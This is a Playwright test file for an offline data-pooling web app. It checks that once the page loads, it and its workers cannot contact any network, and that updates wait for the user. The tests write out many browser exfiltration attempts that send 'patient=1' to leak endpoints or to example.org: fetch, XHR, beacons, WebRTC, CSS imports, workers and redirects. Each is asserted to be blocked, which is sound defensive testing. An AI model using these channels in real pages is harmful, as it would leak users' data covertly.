import { createSocket } from 'node:dgram';
import { type AddressInfo, createServer } from 'node:net';
import { JourneyPage } from './journey-page.ts';
import { expect, test } from './served-page.ts';

test('after loading, the whole journey asks nothing of any network', async ({ page, served, context }) => {
  const centre = new JourneyPage(page);
  await centre.open(served);
  const loaded = served.requests.length;
  const seen: string[] = [];
  context.on('request', (request) => {
    const { protocol } = new URL(request.url());
    if (protocol !== 'blob:' && protocol !== 'data:') seen.push(`${request.method()} ${request.url()}`);
  });
  const unserved: string[] = [];
  context.on('response', (response) => {
    const { protocol } = new URL(response.url());
    if ((protocol === 'http:' || protocol === 'https:') && !response.fromServiceWorker())
      unserved.push(response.url());
  });
  await context.setOffline(true);
  await centre.trySimulatedCentres();
  await centre.chooseSite('assessment_center', 'Oxford');
  await centre.nameCentre('Oxford');
  await centre.confirmCodebook();
  await centre.planAsRecommended();
  await centre.train();
  await centre.makeBundle(5);
  await centre.goTo('Analyse');
  await centre.analyse();

  expect(served.requests.slice(loaded)).toEqual([]);
  expect(unserved).toEqual([]);
  // The page's own files, out of the browser's copy: read only, nothing carried along.
  expect(seen.filter((request) => !request.startsWith(`GET ${served.address}`))).toEqual([]);
  expect(seen.filter((request) => request.includes('?'))).toEqual([]);

  // Opened anew, it comes out of the copy too.
  await page.reload();
  await expect(centre.heading('Analyse')).toBeVisible();
  expect(unserved).toEqual([]);
});

test('code inside the page, or inside a worker of it, cannot send anything', async ({
  page,
  served,
  context,
}) => {
  await new JourneyPage(page).open(served);
  const loaded = served.requests.length;
  const address = served.address;
  const attempts = await page.evaluate(async (to) => {
    const refused = (attempt: () => unknown) =>
      Promise.resolve()
        .then(attempt)
        .then(
          (value) => (value === false ? 'refused' : 'sent'),
          () => 'refused',
        );
    const socket = () =>
      new Promise((resolve, reject) => {
        const ws = new WebSocket(to.replace('http', 'ws'));
        ws.onopen = resolve;
        ws.onerror = reject;
      });
    const image = (source: string) => () =>
      new Promise((resolve, reject) => {
        const picture = new Image();
        picture.onload = resolve;
        picture.onerror = reject;
        picture.src = source;
      });
    const script = (source: string) => () =>
      new Promise((resolve, reject) => {
        const element = document.createElement('script');
        element.onload = resolve;
        element.onerror = reject;
        element.src = source;
        document.head.append(element);
      });
    const inWorker = () =>
      new Promise((resolve, reject) => {
        const code = `fetch(${JSON.stringify(`${to}leak?worker`)}).then(() => postMessage('sent'), () => postMessage('refused'))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
        worker.onmessage = ({ data }) => (data === 'sent' ? resolve(true) : reject(new Error(data)));
        worker.onerror = () => reject(new Error('refused'));
      });
    return {
      fetch: await refused(() => fetch(`${to}leak?fetch`)),
      fetchElsewhere: await refused(() => fetch('https://example.org/leak', { mode: 'no-cors' })),
      request: await refused(() => {
        const request = new XMLHttpRequest();
        request.open('POST', `${to}leak?xhr`, false);
        request.send('patient=1');
      }),
      webSocket: await refused(socket),
      eventSource: await refused(
        () =>
          new Promise((resolve, reject) => {
            const source = new EventSource(`${to}leak?events`);
            source.onopen = resolve;
            source.onerror = reject;
          }),
      ),
      image: await refused(image('https://example.org/leak.png?patient=1')),
      ownImage: await refused(image(`${to}icon.svg?leak=patient1`)),
      script: await refused(script('https://example.org/leak.js')),
      worker: await refused(inWorker),
    };
  }, address);
  expect(attempts).toEqual(Object.fromEntries(Object.keys(attempts).map((way) => [way, 'refused'])));

  // A beacon answers true before the policy is applied, and the rest says nothing at all: only the servers know.
  const stun = await udpServer();
  const other = await tcpServer();
  const rtc = await page.evaluate(
    ({ to, stunPort, otherPort }) => {
      navigator.sendBeacon(`${to}leak?beacon`, 'patient=1');
      const add = (tag: string, properties: Record<string, string>) => {
        const element = Object.assign(document.createElement(tag), properties);
        document.body.append(element);
        return element;
      };
      const link = (rel: string, href: string) => add('link', { rel, href });
      for (const rel of [
        'prefetch',
        'modulepreload',
        'stylesheet',
        'icon',
        'manifest',
        'prerender',
        'preload',
      ])
        link(rel, `${to}leak?${rel}`);
      link('preconnect', `http://127.0.0.1:${otherPort}/`);
      add('script', { src: `${to}leak.js?script` });
      const rules = { prefetch: [{ source: 'list', urls: ['/leak?speculation'] }] };
      add('script', { type: 'speculationrules', textContent: JSON.stringify(rules) });
      for (const tag of ['iframe', 'embed', 'video', 'audio']) add(tag, { src: `${to}leak?${tag}` });
      add('object', { data: `${to}leak?object` });
      add('style', {
        textContent: `@import "${to}leak?import"; @font-face { font-family: leak; src: url(${to}leak?font) }
          body { font-family: leak; background: url(${to}leak?background) }`,
      });
      add('a', { href: '#/data', ping: `${to}leak?ping` }).click();
      import(`${to}leak.js?module`).catch(() => undefined);
      new Worker(`${to}leak.js?own-worker`);
      navigator.serviceWorker.register(`${to}leak.js?service-worker`).catch(() => undefined);
      fetch(`${to}leak?frame`).catch(() => undefined);
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const inFrame = frame.contentWindow as (Window & typeof globalThis) | null;
      inFrame?.fetch(`${to}leak?from-frame`).catch(() => undefined);
      if (typeof RTCPeerConnection === 'undefined') return 'taken away';
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stunPort}` }] });
      peer.createDataChannel('leak');
      void peer.createOffer().then((offer) => peer.setLocalDescription(offer));
      return 'there';
    },
    { to: address, stunPort: stun.port, otherPort: other.port },
  );
  expect(rtc).toBe('taken away');

  // Being led elsewhere is no connection: the page refuses it itself.
  const ways: readonly ((to: string) => unknown)[] = [
    (to) => location.assign(`${to}leak?assign`),
    (to) => location.replace(`${to}leak?replace`),
    (to) => window.open(`${to}leak?window`),
    (to) => window.open(`${to}leak?self`, '_self'),
    (to) => Object.assign(document.createElement('a'), { href: `${to}leak?link` }).click(),
    (to) => Object.assign(document.createElement('a'), { href: `${to}leak?saved`, download: 'leak' }).click(),
    (to) => {
      const meta = { httpEquiv: 'refresh', content: `0;url=${to}leak?refresh` };
      document.head.append(Object.assign(document.createElement('meta'), meta));
    },
    (to) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      if (frame.contentWindow !== null) frame.contentWindow.parent.location = `${to}leak?from-frame`;
    },
    (to) => {
      const form = Object.assign(document.createElement('form'), { action: `${to}leak`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  ];
  for (const to of [address, 'https://elsewhere.example/']) {
    for (const way of ways) {
      await page.evaluate(way, to);
      await page.waitForTimeout(60);
      expect(page.url(), way.toString()).toBe(`${address}#/data`);
    }
  }
  await page.waitForTimeout(500);
  expect(served.requests.slice(loaded).filter((request) => request.includes('leak'))).toEqual([]);
  expect(context.pages()).toHaveLength(1);
  expect([stun.received(), other.received()]).toEqual([0, 0]);
  stun.close();
  other.close();
});

test('a new version of the page waits until it is asked for, and keeps what was entered', async ({
  page,
  served,
}) => {
  const centre = new JourneyPage(page);
  await centre.open(served);
  await centre.goTo('Projects');
  await page.getByRole('button', { name: 'New project' }).click();
  await centre.goTo('Projects');
  await page.getByLabel('Name of the project').first().fill('Falls');
  const devtools = await page.context().newCDPSession(page);
  const { installabilityErrors } = await devtools.send('Page.getInstallabilityErrors');
  expect(installabilityErrors.filter(({ errorId }) => errorId !== 'in-incognito')).toEqual([]);
  const version = () => page.locator('meta[name="description"]').getAttribute('content');
  const update = page.getByRole('button', { name: 'Update now' });
  await expect(page.getByText('A new version of this page is ready')).toHaveCount(0);

  const other = await page.context().newPage();
  await other.goto(served.address);
  const told = other.getByText('A new version of this page is ready');
  await expect(other.getByRole('heading', { level: 1 })).toBeVisible();

  served.publish('index.html', (text) => text.replace('content="Pool what', 'content="Version 2. Pool what'));
  served.publish('sw.js', (text) =>
    text.replace(
      /("?url"?:"index\.html","?revision"?:)"[0-9a-f]+"|("?revision"?:)"[0-9a-f]+"(,"?url"?:"index\.html")/,
      '$1$2"2"$3',
    ),
  );
  await page.reload();
  await expect(update).toBeVisible({ timeout: 15_000 });
  await page.reload();
  expect(await version()).not.toContain('Version 2');
  await expect(update).toBeVisible({ timeout: 15_000 });
  // The tab beside it did not ask, and is told all the same.
  await expect(told).toBeVisible();
  await update.click();
  await expect(other.getByText('This page was updated in another tab')).toBeVisible({ timeout: 15_000 });
  await expect(told).toHaveCount(0);
  await other.getByRole('button', { name: 'Reload the page' }).click();
  await expect(other.locator('meta[name="description"]')).toHaveAttribute('content', /Version 2/);
  await expect(other.getByText('This page was updated in another tab')).toHaveCount(0);
  await other.close();
  await expect.poll(version, { timeout: 15_000 }).toContain('Version 2');
  await expect(page.getByRole('link', { name: 'Falls' })).toBeVisible();
  await expect(update).toHaveCount(0);
});

/** Counts the packets that reach it: what WebRTC would ask for its own address. */
async function udpServer() {
  const socket = createSocket('udp4');
  let packets = 0;
  socket.on('message', () => {
    packets += 1;
  });
  await new Promise<void>((bound) => socket.bind(0, '127.0.0.1', bound));
  return { port: socket.address().port, received: () => packets, close: () => socket.close() };
}

/** Counts the connections that are opened to it, whatever they say. */
async function tcpServer() {
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
  const { port } = server.address() as AddressInfo;
  return { port, received: () => connections, close: () => server.close() };
}
